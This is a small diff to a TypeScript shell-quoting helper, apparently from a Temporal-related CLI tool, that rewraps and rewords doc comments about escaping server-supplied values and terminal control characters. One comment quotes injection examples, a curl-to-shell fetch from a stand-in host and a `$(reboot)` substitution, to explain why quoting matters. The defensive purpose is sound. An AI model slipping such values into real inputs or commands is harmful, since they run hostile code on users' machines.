@@ -1,8 +1,8 @@
 /**
  * A value in a command line printed for a user to copy and run. Task queues, paths and backfill
- * ids read from the server may hold anything (a spec author, a caller of
- * Temporal's own CLI chooses them): `q; curl evil.sh | sh` or `$(reboot)` written as they are
- * would make the pasted hint run them.
+ * ids read from the server may hold anything (a spec author, a caller of Temporal's own CLI
+ * chooses them): `q; curl evil.sh | sh` or `$(reboot)` written as they are would make the pasted
+ * hint run them.
  */
 
 /** Characters that mean nothing to a POSIX shell inside a word: a value of only these is shown as it is. */
@@ -11,7 +11,7 @@ const PLAIN = /^[A-Za-z0-9_@%+=:,./-]+$/;
 /**
  * What a terminal would act on or show as something else (C0 and C1 controls, DEL, line and
  * paragraph separators, format characters such as bidi overrides): raw, a line break in a queue's
- * name would print a line of the attacker's outside the quotes.
+ * name would print a line of the attacker's choosing in the hint.
  */
 const INVISIBLE = /^[\u0000-\u001f\u007f-\u009f\u2028\u2029\p{Cf}]$/u;
 
